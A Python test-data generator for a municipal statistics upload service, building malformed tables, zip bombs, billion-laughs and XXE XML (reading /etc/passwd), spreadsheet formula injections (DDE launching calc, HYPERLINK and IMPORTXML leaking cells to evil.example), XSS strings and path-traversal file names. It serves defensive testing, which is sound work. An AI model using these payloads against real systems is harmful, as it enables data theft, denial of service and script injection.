"""Generator of the hostile-input corpus (issue 7 item 2): bad tables, files, file names and metadata.

Everything is generated in code at test time (no binary fixtures).  Each :class:`Case` says what a correct
service must answer:

* ``expect="refused"``: a 4xx (``statuses``) whose findings contain one of ``codes``; for table errors
  ``row``/``column`` name the place in the file.  Nothing may be stored.
* ``expect="stored"``: accepted (the input is odd but legitimate, e.g. HTML in the title, a path in the
  file name); the test then checks what was stored (sanitised file name, payload only escaped in pages).

``corpus(city)`` returns the table/file/metadata cases, ``hierarchy_corpus()`` the hierarchy uploads.
"""
from __future__ import annotations

import io
import zipfile
from dataclasses import dataclass, field

HEADER = ["baublock", "monat", "aufenthaltsstatus", "anzahl"]
MAPPING = {"geo_column": "baublock", "count_columns": ["anzahl"], "dimensions": ["monat", "aufenthaltsstatus"],
           "layout": "long"}
META = {"title": "Geflüchtete nach Aufenthaltsstatus", "reference_period": "2026-07", "description": "Test",
        "keywords": ["Test"], "source": "Statistikstelle", "contact": "x@example.org", "licence": "dl-de/by-2-0",
        "audience": "public", "correction_reason": "Testdaten erneut geliefert"}  # later uploads of 2026-07 correct

# finding codes (strings, so this module imports nothing of the app)
READ_ANY = {"FG-READ-EMPTY", "FG-READ-BINARY", "FG-READ-XLSX-BROKEN", "FG-READ-NO-HEADER", "FG-READ-NO-DATA",
            "FG-READ-RAGGED", "FG-READ-NUL", "FG-READ-LINE-TOO-LONG", "FG-READ-BAD-QUOTES",
            "FG-READ-DUPLICATE-HEADER", "FG-READ-UTF16", "FG-TABLE-COLUMN-MISSING", "FG-TABLE-NO-GEO-COLUMN",
            "FG-TABLE-NO-COUNT-COLUMN", "FG-TABLE-EMPTY", "FG-TABLE-MISSING-VALUE", "FG-TABLE-NOT-A-NUMBER",
            "FG-TABLE-UNKNOWN-CODES", "publisher.upload_empty", "publisher.invalid_field"}


@dataclass
class Case:
    id: str
    data: bytes
    filename: str = "tabelle.csv"
    metadata: dict = field(default_factory=lambda: dict(META))
    mapping: dict | None = field(default_factory=lambda: dict(MAPPING))
    expect: str = "refused"  # or "stored"
    codes: frozenset = frozenset()
    row: int | None = None  # for table errors: the 1-based file row that must be named
    column: str | None = None
    statuses: tuple = (422,)
    payload: str | None = None  # stored XSS: the string that must never appear unescaped
    field: str | None = None


def _csv(rows: list[list[str]], delimiter=";", encoding="utf-8", eol="\r\n") -> bytes:
    return eol.join(delimiter.join(r) for r in rows).encode(encoding) + eol.encode(encoding)


def _xlsx(rows: list[list]) -> bytes:
    import openpyxl

    wb = openpyxl.Workbook()
    ws = wb.active
    ws.title = "Tabelle1"
    for r in rows:
        ws.append(r)
    buf = io.BytesIO()
    wb.save(buf)
    return buf.getvalue()


def _replace_member(xlsx: bytes, name: str, content: bytes, compress=zipfile.ZIP_DEFLATED) -> bytes:
    src = zipfile.ZipFile(io.BytesIO(xlsx))
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", compress) as dst:
        for info in src.infolist():
            if info.filename != name:
                dst.writestr(info.filename, src.read(info.filename))
        dst.writestr(name, content)
    return out.getvalue()


def _zip_bomb(size: int) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as z:
        z.writestr("[Content_Types].xml", b"<Types/>")
        z.writestr("xl/workbook.xml", b"<workbook/>")
        with z.open("xl/worksheets/sheet1.xml", "w", force_zip64=True) as w:
            chunk = b"\0" * (1024 * 1024)
            for _ in range(size // len(chunk)):
                w.write(chunk)
    return out.getvalue()


BILLION_LAUGHS = b"""<?xml version="1.0"?>
<!DOCTYPE lolz [<!ENTITY lol "lol"><!ENTITY lol1 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
<!ENTITY lol2 "&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;">
<!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
<!ENTITY lol4 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">
<!ENTITY lol5 "&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;">
<!ENTITY lol6 "&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;">
<!ENTITY lol7 "&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;">
<!ENTITY lol8 "&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;">
<!ENTITY lol9 "&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;">]>
<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData>
<row r="1"><c r="A1" t="inlineStr"><is><t>&lol9;</t></is></c></row></sheetData></worksheet>"""

XXE = b"""<?xml version="1.0"?>
<!DOCTYPE x [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>
<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData>
<row r="1"><c r="A1" t="inlineStr"><is><t>baublock</t></is></c><c r="B1" t="inlineStr"><is><t>anzahl</t></is></c></row>
<row r="2"><c r="A2" t="inlineStr"><is><t>&xxe;</t></is></c><c r="B2"><v>5</v></c></row>
</sheetData></worksheet>"""

XSS_PAYLOADS = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "\"><svg onload=alert(1)>",
    "javascript:alert(1)",
    "<a href=\"javascript:alert(1)\">x</a>",
    "{{ 7*7 }}<iframe src=//evil>",
    "'';!--\"<XSS>=&{()}",
    "</textarea><script>alert(2)</script>",
]
META_FIELDS = ["title", "description", "reference_period", "source", "contact", "keywords"]


def corpus(city) -> list[Case]:
    """The table/file/metadata corpus for the small demo city (``publisher.demo.small_city()``)."""
    blocks = list(city.block_codes)
    statuses = ["Asyl", "Duldung", "Schutz"]
    good_rows = [[b, "2026-07", s, str(5 + (i * 7 + j) % 20)] for i, b in enumerate(blocks)
                 for j, s in enumerate(statuses)]
    rows = [HEADER] + good_rows
    good = _csv(rows)
    n_data = len(good_rows)
    cases: list[Case] = []
    add = cases.append

    # --- malformed / truncated CSV ------------------------------------------------------------------
    add(Case("csv-empty", b"", codes=frozenset({"publisher.upload_empty", "FG-READ-EMPTY"})))
    add(Case("csv-whitespace", b"  \r\n\t\n ", codes=frozenset({"FG-READ-EMPTY"})))
    add(Case("csv-bom-only", b"\xef\xbb\xbf", codes=frozenset({"FG-READ-EMPTY", "FG-READ-NO-HEADER"})))
    add(Case("csv-header-only", _csv([HEADER]), codes=frozenset({"FG-READ-NO-HEADER", "FG-READ-NO-DATA",
                                                                   "FG-TABLE-EMPTY"})))
    add(Case("csv-one-column", b"nur\neine\nspalte\n", codes=frozenset(READ_ANY)))
    for k, cut in enumerate([3, 10, 25, 40]):  # truncated inside the header
        add(Case(f"csv-truncated-header-{k}", good[:cut], codes=frozenset(READ_ANY)))
    # truncated in the middle of the last line: the cut row is ragged or its count is missing
    for k, frac in enumerate([0.3, 0.55, 0.8, 0.97]):
        line = int(n_data * frac)
        head = b"\r\n".join(good.split(b"\r\n")[:line + 1])
        last = good.split(b"\r\n")[line + 1]
        cut = head + b"\r\n" + last[:last.rfind(b";")]  # the count field is missing
        add(Case(f"csv-truncated-row-{k}", cut, codes=frozenset({"FG-READ-RAGGED", "FG-TABLE-MISSING-VALUE"}),
                 row=line + 2))
    bad = [list(r) for r in rows]
    bad[5] = bad[5][:2]
    add(Case("csv-ragged-short", _csv(bad), codes=frozenset({"FG-READ-RAGGED", "FG-TABLE-MISSING-VALUE"}), row=6))
    bad = [list(r) for r in rows]
    bad[7] = bad[7] + ["zu", "viel"]
    add(Case("csv-ragged-long", _csv(bad), codes=frozenset({"FG-READ-RAGGED"}), row=8))
    add(Case("csv-unbalanced-quote", good.replace(b"\r\n" + blocks[3].encode(), b"\r\n\"" + blocks[3].encode(), 1),
             codes=frozenset(READ_ANY | {"FG-READ-BAD-QUOTES"})))
    add(Case("csv-nul-bytes", good[:60] + b"\x00\x00" + good[60:], codes=frozenset({"FG-READ-NUL"})))
    add(Case("csv-binary-junk", bytes(range(256)) * 8, codes=frozenset({"FG-READ-NUL", "FG-READ-BINARY"})))
    add(Case("csv-random-controls", b"\x01\x02\x03\x04\x05\x06\x07\x08" * 300,
             codes=frozenset({"FG-READ-BINARY", "FG-READ-NO-HEADER"})))
    add(Case("csv-pdf", b"%PDF-1.7\n" + good, codes=frozenset({"FG-READ-BINARY"})))
    add(Case("csv-ole-xls", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 500, filename="alt.csv",
             codes=frozenset({"FG-READ-BINARY", "FG-READ-NUL"})))
    add(Case("csv-line-too-long", _csv([HEADER, [blocks[0], "2026-07", "x" * 120_000, "5"]]),
             codes=frozenset({"FG-READ-LINE-TOO-LONG"}), row=2))
    add(Case("csv-duplicate-header", _csv([HEADER + ["anzahl"]] + [r + ["1"] for r in good_rows]),
             codes=frozenset({"FG-READ-DUPLICATE-HEADER"})))
    add(Case("csv-html-not-csv", b"<html><body><table><tr><td>1</td></tr></table></body></html>\n",
             codes=frozenset(READ_ANY)))
    add(Case("csv-json-not-csv", b'{"baublock": "0101001", "anzahl": 5}\n', codes=frozenset(READ_ANY)))
    add(Case("csv-missing-count-column", _csv([HEADER[:3]] + [r[:3] for r in good_rows]),
             codes=frozenset({"FG-TABLE-COLUMN-MISSING", "FG-TABLE-NO-COUNT-COLUMN"})))
    add(Case("csv-missing-geo-column", _csv([HEADER[1:]] + [r[1:] for r in good_rows]),
             codes=frozenset({"FG-TABLE-COLUMN-MISSING", "FG-TABLE-NO-GEO-COLUMN"})))

    # --- encodings --------------------------------------------------------------------------------------
    text = good.decode("utf-8").replace("Schutz", "Schütz")
    add(Case("enc-utf16le-nobom", text.encode("utf-16-le"), codes=frozenset({"FG-READ-UTF16", "FG-READ-NUL"})))
    add(Case("enc-utf16be-nobom", text.encode("utf-16-be"), codes=frozenset({"FG-READ-UTF16", "FG-READ-NUL"})))
    add(Case("enc-utf32", text.encode("utf-32"), codes=frozenset({"FG-READ-UTF16", "FG-READ-NUL"})))
    for k, byte in enumerate([b"\x81", b"\x8d", b"\x8f", b"\x90", b"\x9d"]):  # invalid in cp1252
        bad = [list(r) for r in rows]
        r = 3 + k * 4
        add(Case(f"enc-latin1-invalid-cp1252-count-{k}",
                 _csv(bad[:r]) + b";".join(x.encode() for x in bad[r][:3]) + b";1" + byte + b"\r\n" + _csv(bad[r + 1:]),
                 codes=frozenset({"FG-TABLE-NOT-A-NUMBER", "FG-READ-CONTROL-CHARS"}), row=r + 1))
        add(Case(f"enc-latin1-invalid-cp1252-geo-{k}",
                 _csv(bad[:r]) + bad[r][0].encode() + byte + b";" + b";".join(x.encode() for x in bad[r][1:])
                 + b"\r\n" + _csv(bad[r + 1:]),
                 codes=frozenset({"FG-TABLE-UNKNOWN-CODES", "FG-READ-CONTROL-CHARS"}), row=r + 1))
    mixed = [list(r) for r in rows]
    mixed[4][3] = "fünf"
    add(Case("enc-mixed-utf8-cp1252", _csv(mixed[:4]) + _csv(mixed[4:5], encoding="cp1252")[:-2] + b"\xe2\x80\x93"
             + b"\r\n" + _csv(mixed[5:]), codes=frozenset({"FG-TABLE-NOT-A-NUMBER"}), row=5, column="anzahl"))

    # --- mixed delimiters ---------------------------------------------------------------------------------
    for k, (d1, d2) in enumerate([(";", ","), (";", "\t"), (",", ";"), (";", "|")]):
        lines = [d1.join(r) for r in rows]
        for j in range(3, len(lines), 5):
            lines[j] = d2.join(rows[j])
        add(Case(f"delim-mixed-{k}", ("\r\n".join(lines) + "\r\n").encode(),
                 codes=frozenset({"FG-READ-RAGGED", "FG-TABLE-COLUMN-MISSING", "FG-TABLE-UNKNOWN-CODES",
                                  "FG-TABLE-NOT-A-NUMBER", "FG-TABLE-MISSING-VALUE"})))

    # --- formula injection (in the count column: not a number; in the geo column: unknown code) -----------
    formulas = ['=HYPERLINK("http://evil.example/?x="&A1,"klick")', "+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0",
                "-2+3", "=1+1", "=cmd|'/c notepad'!A1", "+1+1", "@SUM(A1:A9)", "=DDE(\"cmd\";\"/c calc\";\"x\")",
                "\t=1+1", "=IMPORTXML(\"http://evil\",\"//a\")"]
    for k, f in enumerate(formulas):
        bad = [list(r) for r in rows]
        r = 2 + k
        bad[r][3] = f.replace(";", ",")
        add(Case(f"formula-count-{k}", _csv(bad), codes=frozenset({"FG-TABLE-NOT-A-NUMBER",
                                                                   "FG-READ-RAGGED"}), row=r + 1,
                 column="anzahl"))
        bad = [list(r) for r in rows]
        bad[r][0] = f.replace(";", ",")
        add(Case(f"formula-geo-{k}", _csv(bad), codes=frozenset({"FG-TABLE-UNKNOWN-CODES"}), row=r + 1,
                 column="baublock"))
    for k, f in enumerate(formulas):  # in a label column: stored, but the DPO sees a typed warning per cell
        bad = [list(r) for r in rows]
        r = 4 + k
        bad[r][2] = f.replace(";", ",").strip()
        add(Case(f"formula-label-{k}", _csv(bad), expect="stored_warning", codes=frozenset({"FG-READ-FORMULA-TEXT"}),
                 row=r + 1, column="aufenthaltsstatus"))
    for k, f in enumerate(formulas[:4]):  # also as XLSX (string cells and a real formula)
        x = [HEADER] + [[b, m, s, int(c)] for b, m, s, c in good_rows]
        x[3][3] = f
        # a formula cell is never evaluated: no cached value -> missing; a string -> not a number
        add(Case(f"formula-xlsx-{k}", _xlsx(x), filename="t.xlsx",
                 codes=frozenset({"FG-TABLE-NOT-A-NUMBER", "FG-TABLE-MISSING-VALUE"}),
                 row=4, column="anzahl"))

    # --- counts -----------------------------------------------------------------------------------------
    for k, (val, code) in enumerate([("-1", "FG-TABLE-NEGATIVE"), ("-17", "FG-TABLE-NEGATIVE"),
                                     ("2,5", "FG-TABLE-FRACTIONAL"), ("3.5", "FG-TABLE-FRACTIONAL"),
                                     ("0,1", "FG-TABLE-FRACTIONAL"), ("abc", "FG-TABLE-NOT-A-NUMBER"),
                                     ("1e3x", "FG-TABLE-NOT-A-NUMBER"), ("NaN", "FG-TABLE-NOT-A-NUMBER"),
                                     ("inf", "FG-TABLE-NOT-A-NUMBER"), ("0x1F", "FG-TABLE-NOT-A-NUMBER"),
                                     ("5 Personen", "FG-TABLE-NOT-A-NUMBER"), ("", "FG-TABLE-MISSING-VALUE"),
                                     ("99999999999999999999", "FG-TABLE-COUNT-TOO-LARGE"),
                                     ("1.000.000.000.000.000", "FG-TABLE-COUNT-TOO-LARGE"),
                                     ("١٢", "FG-TABLE-NOT-A-NUMBER"), ("½", "FG-TABLE-NOT-A-NUMBER"),
                                     ("--3", "FG-TABLE-NOT-A-NUMBER"), ("1,2,3", "FG-TABLE-NOT-A-NUMBER")]):
        for pos in (0.2, 0.7):
            bad = [list(r) for r in rows]
            r = 1 + int(n_data * pos) + k % 3
            bad[r][3] = val
            add(Case(f"count-{k}-{int(pos * 10)}", _csv(bad), codes=frozenset({code, "FG-TABLE-NOT-A-NUMBER"}
                                                                                if code == "FG-TABLE-MISSING-VALUE"
                                                                                else {code}),
                     row=r + 1, column="anzahl"))
    x = [HEADER] + [[b, m, s, int(c)] for b, m, s, c in good_rows]
    x[6][3] = -4
    add(Case("count-xlsx-negative", _xlsx(x), filename="t.xlsx", codes=frozenset({"FG-TABLE-NEGATIVE"}), row=7,
             column="anzahl"))
    x[6][3] = 2.25
    add(Case("count-xlsx-fraction", _xlsx(x), filename="t.xlsx", codes=frozenset({"FG-TABLE-FRACTIONAL"}), row=7,
             column="anzahl"))

    # --- duplicate keys, unknown geography --------------------------------------------------------------
    for k, (a, b) in enumerate([(1, 2), (3, 40), (10, n_data), (5, 6)]):
        bad = [list(r) for r in rows]
        bad[b] = list(bad[a])
        add(Case(f"dup-key-{k}", _csv(bad), codes=frozenset({"FG-TABLE-DUPLICATE-KEY"}), row=max(a, b) + 1))
    for k, code in enumerate(["9999999", "01010", "01019999", "ZZ", "0", "<script>", "../etc", " ", "STADTX",
                              blocks[0] + "0"]):
        bad = [list(r) for r in rows]
        r = 2 + 3 * k
        bad[r][0] = code
        add(Case(f"geo-unknown-{k}", _csv(bad), codes=frozenset({"FG-TABLE-UNKNOWN-CODES", "FG-TABLE-MISSING-VALUE"}),
                 row=r + 1 if code.strip() else None, column="baublock"))

    # --- XLSX: malformed, truncated, bombs -----------------------------------------------------------------
    gx = _xlsx([HEADER] + [[b, m, s, int(c)] for b, m, s, c in good_rows])
    for k, frac in enumerate([0.05, 0.3, 0.5, 0.7, 0.9, 0.99]):
        add(Case(f"xlsx-truncated-{k}", gx[:int(len(gx) * frac)], filename="t.xlsx",
                 codes=frozenset({"FG-READ-XLSX-BROKEN"})))
    add(Case("xlsx-not-a-zip-csv", good, filename="t.xlsx", codes=frozenset({"FG-READ-XLSX-BROKEN"})))
    add(Case("xlsx-not-a-zip-html", b"<html><body>kein Excel</body></html>", filename="t.xlsx",
             codes=frozenset({"FG-READ-XLSX-BROKEN"})))
    add(Case("xlsx-random-bytes", bytes((i * 37) % 251 for i in range(3000)), filename="t.xlsx",
             codes=frozenset({"FG-READ-XLSX-BROKEN", "FG-READ-BINARY", "FG-READ-NUL"})))
    add(Case("xlsx-pk-header-only", b"PK\x03\x04" + b"\0" * 100, filename="t.xlsx",
             codes=frozenset({"FG-READ-XLSX-BROKEN"})))
    add(Case("xlsx-empty-zip", _empty_zip(), filename="t.xlsx", codes=frozenset({"FG-READ-XLSX-BROKEN"})))
    add(Case("xlsx-zip-without-sheets", _zip({"hello.txt": b"hi"}), filename="t.xlsx",
             codes=frozenset({"FG-READ-XLSX-BROKEN"})))
    add(Case("xlsx-corrupt-sheet-xml", _replace_member(gx, "xl/worksheets/sheet1.xml", b"<worksheet><sheetData><row"),
             filename="t.xlsx", codes=frozenset({"FG-READ-XLSX-BROKEN"})))
    add(Case("xlsx-corrupt-workbook-xml", _replace_member(gx, "xl/workbook.xml", b"\x00\x01garbage"),
             filename="t.xlsx", codes=frozenset({"FG-READ-XLSX-BROKEN"})))
    add(Case("xlsx-billion-laughs-sheet", _replace_member(gx, "xl/worksheets/sheet1.xml", BILLION_LAUGHS),
             filename="t.xlsx", codes=frozenset({"FG-READ-XLSX-BROKEN", "FG-READ-NO-HEADER"})))
    add(Case("xlsx-billion-laughs-workbook", _replace_member(gx, "xl/workbook.xml", BILLION_LAUGHS),
             filename="t.xlsx", codes=frozenset({"FG-READ-XLSX-BROKEN"})))
    add(Case("xlsx-xxe-sheet", _replace_member(gx, "xl/worksheets/sheet1.xml", XXE), filename="t.xlsx",
             codes=frozenset({"FG-READ-XLSX-BROKEN", "FG-TABLE-UNKNOWN-CODES", "FG-READ-NO-HEADER",
                              "FG-TABLE-COLUMN-MISSING", "FG-READ-NO-DATA"})))
    add(Case("xlsx-xxe-shared-strings", _replace_member(gx, "xl/sharedStrings.xml", XXE.replace(
        b"worksheet", b"sst")), filename="t.xlsx", codes=frozenset(READ_ANY | {"FG-READ-XLSX-BROKEN"}),
        expect="refused_or_stored"))
    add(Case("xlsx-zip-bomb-ratio", _zip_bomb(8 * 1024 * 1024), filename="t.xlsx",
             codes=frozenset({"FG-READ-XLSX-BOMB"})))
    add(Case("xlsx-zip-bomb-size", _zip_bomb(64 * 1024 * 1024), filename="t.xlsx",
             codes=frozenset({"FG-READ-XLSX-BOMB"})))
    add(Case("xlsx-sheet-missing", gx, filename="t.xlsx", mapping={**MAPPING, "sheet": "Gibtsnicht"},
             codes=frozenset({"FG-READ-SHEET-MISSING"})))
    add(Case("xlsx-bad-zip-version", _bad_zip_version(gx), filename="t.xlsx",
             codes=frozenset({"FG-READ-XLSX-BROKEN"})))

    # --- file names -------------------------------------------------------------------------------------
    for k, name in enumerate(["../../etc/passwd.csv", "..\\..\\windows\\win.ini.csv", "/etc/passwd.csv",
                              "a\x00b.csv", "a\nb.csv", "\u202egpj.csv", "tab\u202ele.csv", "x" * 300 + ".csv",
                              "ä" * 250 + ".xlsx", ".csv", "....csv", "CON.csv", "a\x1b[31mred.csv",
                              "<script>alert(1)</script>.csv", "\"quoted\".csv", "%2e%2e%2fetc.csv",
                              "name with spaces .csv", "datei.CSV", "\u0000.csv", "a/b/c/../../d.csv"]):
        data = gx if name.endswith(".xlsx") else good
        # a raw '"' or newline breaks the multipart header itself (browsers send %22 / %0A): then the part
        # is no file at all and "file missing" (422) is the right answer
        add(Case(f"filename-{k}", data, filename=name, expect="stored",
                 codes=frozenset({"publisher.invalid_field"}) if ('"' in name or "\n" in name) else frozenset()))
    for k, name in enumerate(["passwd", "tabelle.csv.exe", "tabelle.php", "tabelle.html", "x" * 300,
                              "tabelle.csv\x00.exe", "tabelle.xls", "../tabelle.sh"]):
        add(Case(f"filename-type-{k}", good, filename=name, codes=frozenset({"publisher.upload_type"})))

    # --- huge uploads (the limit is set by the test; see test_hostile_corpus.py) ----------------------------
    add(Case("huge-csv", b"", filename="gross.csv", statuses=(413,), codes=frozenset({"payload_too_large"})))
    add(Case("huge-xlsx", b"", filename="gross.xlsx", statuses=(413,), codes=frozenset({"payload_too_large"})))

    # --- metadata: stored XSS in every field, bad types, control characters ---------------------------------
    for k, p in enumerate(XSS_PAYLOADS):
        for fld in META_FIELDS:
            md = dict(META)
            v = p + " statistik@stadt.example" if fld == "contact" else p  # a contact needs an e-mail address
            md[fld] = [v.replace(";", " ").replace(",", " "), "Test"] if fld == "keywords" else (
                v if fld != "reference_period" else "2026-07 " + v[:80])
            add(Case(f"xss-{fld}-{k}", good, metadata=md, expect="stored", payload=md[fld][0]
                     if fld == "keywords" else md[fld], field=fld))
    for k, (fld, val) in enumerate([("title", "a\x00b"), ("description", "x\x1by"), ("title", "x" * 301),
                                    ("description", "y" * 5001), ("title", ""), ("reference_period", ""),
                                    ("audience", "everyone"), ("audience", "restricted"), ("keywords", "k\x07"),
                                    ("contact", "<b>Herr Müller</b>"), ("contact", "Zimmer 101")]):
        md = dict(META)
        md[fld] = val
        add(Case(f"meta-bad-{k}", good, metadata=md, codes=frozenset({"publisher.invalid_field"}),
                 column="groups" if val == "restricted" else fld))
    return cases


def _zip(members: dict[str, bytes]) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as z:
        for k, v in members.items():
            z.writestr(k, v)
    return out.getvalue()


def _empty_zip() -> bytes:
    out = io.BytesIO()
    zipfile.ZipFile(out, "w").close()
    return out.getvalue()


def _bad_zip_version(data: bytes) -> bytes:
    """The central directory claims 'needs zip version 6.4' (fuzz finding: NotImplementedError)."""
    b = bytearray(data)
    i = b.find(b"PK\x01\x02")
    b[i + 6] = 64
    return bytes(b)


def hierarchy_corpus() -> list[Case]:
    """Bad hierarchy uploads (admin): cycles, two parents, empty codes, duplicate levels, broken files."""
    hdr = "baublock;stadtteil;stadtbezirk\n"
    ok = ["0101001;0101;01", "0101002;0101;01", "0102001;0102;01", "0201001;0201;02"]
    cases = [
        Case("hier-two-parents", (hdr + "\n".join(ok + ["0101001;0102;01"]) + "\n").encode(),
             codes=frozenset({"FG-HIER-TWO-PARENTS", "FG-HIER-DUPLICATE"})),
        Case("hier-two-parents-mid", (hdr + "\n".join(ok + ["0101003;0101;02"]) + "\n").encode(),
             codes=frozenset({"FG-HIER-TWO-PARENTS"})),
        Case("hier-cycle", b"baublock;stadtteil;stadtbezirk\nA;B;C\nB;C;A\n", codes=frozenset(
            {"FG-HIER-CYCLE", "FG-HIER-TWO-PARENTS"})),
        Case("hier-cycle-3", b"baublock;stadtteil;stadtbezirk\nA;B;C\nB;C;A\nC;A;B\n", codes=frozenset(
            {"FG-HIER-CYCLE", "FG-HIER-TWO-PARENTS"})),
        Case("hier-empty-code", (hdr + "\n".join(ok + [";0101;01"]) + "\n").encode(),
             codes=frozenset({"FG-HIER-EMPTY-CODE"})),
        Case("hier-empty-parent", (hdr + "\n".join(ok + ["0101009;;01"]) + "\n").encode(),
             codes=frozenset({"FG-HIER-EMPTY-CODE"})),
        Case("hier-one-column", b"baublock\n0101001\n0101002\n", codes=frozenset({"FG-HIER-NO-LEVELS",
                                                                                 "FG-READ-NO-HEADER"})),
        Case("hier-duplicate-level", b"stadtteil;stadtteil;bezirk\n01;01;1\n02;02;1\n",
             codes=frozenset({"FG-HIER-LEVEL-DUPLICATE", "FG-READ-DUPLICATE-HEADER"})),
        Case("hier-empty", b"", codes=frozenset({"FG-READ-EMPTY", "publisher.upload_empty",
                                                 "publisher.invalid_field"})),
        Case("hier-binary", bytes(range(256)) * 4, codes=frozenset({"FG-READ-NUL", "FG-READ-BINARY"})),
        Case("hier-truncated-xlsx", _xlsx([["baublock", "stadtteil"], ["0101001", "0101"]])[:300],
             filename="h.xlsx", codes=frozenset({"FG-READ-XLSX-BROKEN"})),
        Case("hier-ragged", (hdr + "\n".join(ok + ["0101009;0101"]) + "\n").encode(),
             codes=frozenset({"FG-READ-RAGGED", "FG-HIER-EMPTY-CODE"})),
    ]
    for c in cases:
        c.mapping = None
        c.filename = c.filename if c.filename != "tabelle.csv" else "hierarchie.csv"
    return cases
